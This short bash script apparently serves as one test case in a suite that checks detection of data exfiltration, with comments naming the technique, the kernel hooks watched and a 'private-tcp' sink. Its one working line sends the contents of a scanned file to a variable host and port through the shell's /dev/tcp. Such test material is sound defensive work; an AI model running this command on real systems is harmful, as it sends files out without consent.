#!/usr/bin/env bash
# technique: the shell's own /dev/tcp
# hooks: socket_connect, file_permission
# sink: private-tcp

. attack.sh
cat "$SCAN" >"/dev/tcp/$PRIVATE_HOST/$PORT_TCP"
